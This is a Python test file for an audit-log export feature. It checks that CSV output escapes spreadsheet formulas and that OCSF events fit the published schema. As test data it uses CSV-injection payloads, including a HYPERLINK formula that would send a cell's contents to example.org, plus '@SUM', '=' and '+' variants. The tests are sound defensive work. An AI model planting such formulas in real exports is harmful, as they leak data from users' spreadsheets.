"""What leaves the log for other programs: CSV that runs nothing, OCSF that fits its schema."""

import csv
import io
import json
from collections.abc import Sequence
from datetime import timedelta
from typing import Any, get_args

import pytest
from hypothesis import given
from hypothesis import strategies as st
from jsonschema import Draft202012Validator
from ocsf_json_schema import OcsfJsonSchemaEmbedded, get_ocsf_schema

from direct311.audit.entry import Filter
from direct311.audit.question import Question
from direct311.audit.questions.api.ocsf import VERSION, ocsf_lines
from direct311.audit.questions.api.tables import COLUMNS, cell, csv_lines, csv_of, json_lines
from direct311.audit.questions.handlers.audited_query import Opened
from direct311.schemas import events as ev
from tests.unit.audit.audit_under_test import ASKING, AuditUnderTest
from tests.unit.audit.events import OTHER, RECORD, START, Producer

pytestmark = pytest.mark.anyio
FORMULA = '=HYPERLINK("http://example.org/?"&A1,"see")'


@pytest.fixture
async def batch() -> Sequence[Opened]:
    """One of each kind: plain, refused under broken glass, by a service, withheld, destroyed."""
    audit = AuditUnderTest()
    intake = Producer()
    await audit.log(
        intake.access(
            RECORD,
            actor="-1+2",
            department="parks",
            roles=("agent", "inspector"),
            session="token-1",
            issuer="https://id.county.test",
            instance="intake-web1-0123456789ab",
            reference=FORMULA,
            justification="@SUM(1)\r\nsecond line",
            fields=("phone", "email"),
            case_id="D-7",
        ),
        intake.access(RECORD, outcome="denied", break_glass=True, purpose="public_safety"),
        intake.access(action="search", actor="svc:media", result_count=3, fields=()),
        intake.access(RECORD, exempt_until=START + timedelta(days=1)),
        intake.access(OTHER),
        intake.destroyed(OTHER),
    )
    await audit.keys.destroy(OTHER)
    await audit.stores.forget(OTHER)
    export_stream = await audit.exporting.export(ASKING, Filter())
    return [each async for part in export_stream.batches for each in part]


def test_no_cell_is_a_formula() -> None:
    for value in ("=1+1", "+1", "-1", "@x", "\uff1d1", FORMULA):
        assert cell(value) == f"'{value}"
    # Blanks before it do not count, and are not kept.
    for value in ("\t=1", "\r=1", "\n=1", " =1", "\u200b=1"):
        assert cell(value) == "'=1"
    assert [cell(each) for each in ("a=1", 12, True, None, ("x", "y"), "")] == [
        "a=1",
        "12",
        "true",
        "",
        "x y",
        "",
    ]


@given(st.lists(st.lists(st.text(max_size=30), min_size=3, max_size=3), max_size=5))
def test_csv_is_read_back_as_it_was_but_for_formulas(rows: list[list[str]]) -> None:
    read = list(csv.reader(io.StringIO(csv_lines(rows).decode(), newline=""), strict=True))
    assert read == [[cell(value) for value in row] for row in rows]
    assert not any(value[:1] in set("=+-@\t\r\n") - {""} for row in read for value in row if value)


async def test_csv_has_a_line_for_each_entry_with_its_reason(batch: Sequence[Opened]) -> None:
    text = (csv_lines([COLUMNS]) + csv_of(batch)).decode()
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == 6
    first, denied, _, withheld, gone, destroyed = rows
    assert first["reference"] == f"'{FORMULA}"
    assert first["justification"] == "'@SUM(1)\nsecond line"
    assert (first["actor"], first["roles"], first["fields"]) == (
        "'-1+2",
        "agent inspector",
        "phone email",
    )
    assert (first["actor_attested_by"], first["actor_confirmed"]) == ("intake", "false")
    assert (first["token_issuer"], first["token_id"]) == ("https://id.county.test", "token-1")
    assert (denied["outcome"], denied["break_glass"]) == ("denied", "true")
    assert (denied["actor_attested_by"], denied["token_id"]) == ("intake", "")
    assert {name: value for name, value in withheld.items() if value} == {
        "index": "3",
        "logged_at": "2026-03-02T14:00:00.000Z",
        "readable": "false",
        "withheld": "true",
        "withheld_until": "2026-03-03T14:00:00.000Z",
    }
    assert (gone["readable"], gone["actor"], gone["event_id"] != "") == ("false", "", True)
    assert destroyed["event"] == "record.destroyed"
    assert destroyed["actor_confirmed"] == "true"


async def test_a_line_of_json_is_an_entry(batch: Sequence[Opened]) -> None:
    lines = [json.loads(line) for line in json_lines(batch).splitlines()]
    assert [line["index"] for line in lines] == list(range(6))
    first = lines[0]
    assert (first["case_id"], first["case_state"]) == ("D-7", "unresolved")
    assert first["signed_event"]["body"]["why"]["reference"] == FORMULA
    assert (lines[3]["signed_event"], lines[3]["event_id"]) == (None, None)


async def test_ocsf_fits_the_published_schema(batch: Sequence[Opened]) -> None:
    schema = OcsfJsonSchemaEmbedded(get_ocsf_schema(version=VERSION))
    events: list[dict[str, Any]] = [json.loads(line) for line in ocsf_lines(batch).splitlines()]
    for event in events:
        name = schema.lookup_class_name_from_uid(class_uid=event["class_uid"])
        validator = Draft202012Validator(schema.get_class_schema(class_name=name, profiles=[]))
        assert [error.message for error in validator.iter_errors(event)] == []
        assert event["metadata"]["version"] == VERSION
    assert [event["class_uid"] for event in events] == [6003, 6003, 6003, 0, 0, 6003]
    first, denied, search, withheld, _, destroyed = events
    assert first["actor"]["user"]["uid"] == "-1+2"
    assert first["actor"]["session"] == {"uid": "token-1", "issuer": "https://id.county.test"}
    words = [
        (each["unmapped"]["actor_attested_by"], each["unmapped"]["actor_confirmed"])
        for each in (first, search, destroyed)
    ]
    assert words == [("intake", False), ("intake", False), ("intake", True)]
    assert first["unmapped"]["token_id"] == "token-1"
    assert first["dst_endpoint"]["hostname"] == "web1"
    assert first["resources"] == [{"uid": RECORD, "type": "service request"}]
    assert first["unmapped"]["fields"] == ["phone", "email"]
    assert (denied["status_id"], denied["severity_id"], denied["type_uid"]) == (2, 3, 600302)
    assert search["actor"]["user"]["type_id"] == 3
    assert set(withheld) & {"actor", "resources", "api"} == set()
    assert "uid" not in withheld["metadata"]
    assert destroyed["activity_name"] == "Delete"
    logs = [event["metadata"]["log_name"] for event in events]
    assert logs == ["pii.accessed"] * 3 + ["audit"] * 2 + ["record.destroyed"]
    assert (search["count"], search["unmapped"]["result_count"]) == (1, 3)


async def test_acts_about_records_fit_the_schema_and_the_table() -> None:
    audit = AuditUnderTest()
    acts = get_args(ev.RecordAct)
    await audit.log(*(Producer("retention").acted(RECORD, OTHER, act=act) for act in acts))
    page = await audit.reading.page(ASKING, Filter(), limit=20)
    schema = OcsfJsonSchemaEmbedded(get_ocsf_schema(version=VERSION))
    validator = Draft202012Validator(
        schema.get_class_schema(class_name="api_activity", profiles=[])
    )
    events = [json.loads(line) for line in ocsf_lines(page.entries).splitlines()]
    assert {event["metadata"]["event_code"] for event in events} == set(acts)
    for event in events:
        assert [error.message for error in validator.iter_errors(event)] == []
        assert (event["activity_name"], event["metadata"]["log_name"]) == ("Update", "act.recorded")
        assert event["actor"]["user"]["uid"] == "cora"
        assert event["unmapped"]["reference"] == "26-1 CA 01"
        assert event["unmapped"]["actor_confirmed"] is False
    rows = list(csv.reader(io.StringIO(csv_of(page.entries).decode())))
    assert {row[COLUMNS.index("reference")] for row in rows} == {"26-1 CA 01"}
    assert {row[COLUMNS.index("action")] for row in rows} == set(acts)


async def test_acts_are_found_by_what_they_are_and_by_whom() -> None:
    audit = AuditUnderTest()
    retention = Producer("retention")
    await audit.log(
        retention.acted(RECORD, act="hold"),
        retention.acted(RECORD, act="release", actor="raul", roles=("records_officer",)),
        retention.acted(OTHER, act="hold", case_id="case-7"),
    )

    async def found(**query: object) -> int:
        question = Question.model_validate(query)
        return len((await audit.reading.page(ASKING, question.filter, limit=10)).entries)

    assert await found(action="hold") == 2
    assert await found(action="hold", record=RECORD) == 1
    assert await found(actor="raul", role="records_officer") == 1
    assert await found(case="case-7") == 1
    assert await found(service="retention", purpose="retention") == 3


async def test_a_minute_of_failed_sign_ins_counts_as_many() -> None:
    audit = AuditUnderTest()
    failed = Producer().access(
        actor="unknown", action="sign_in", outcome="denied", fields=(), result_count=5_000, roles=()
    )
    await audit.log(failed)
    page = await audit.reading.page(ASKING, Filter(), limit=1)
    (event,) = [json.loads(line) for line in ocsf_lines(page.entries).splitlines()]
    assert event["count"] == 5_000


async def test_a_wrong_ocsf_event_would_be_found(batch: Sequence[Opened]) -> None:
    schema = OcsfJsonSchemaEmbedded(get_ocsf_schema(version=VERSION))
    validator = Draft202012Validator(schema.get_class_schema("api_activity", profiles=[]))
    event = json.loads(ocsf_lines(batch[:1]))
    for broken in (
        {name: value for name, value in event.items() if name != "actor"},
        event | {"purpose": "respond"},
        event | {"activity_id": "2"},
    ):
        assert list(validator.iter_errors(broken))
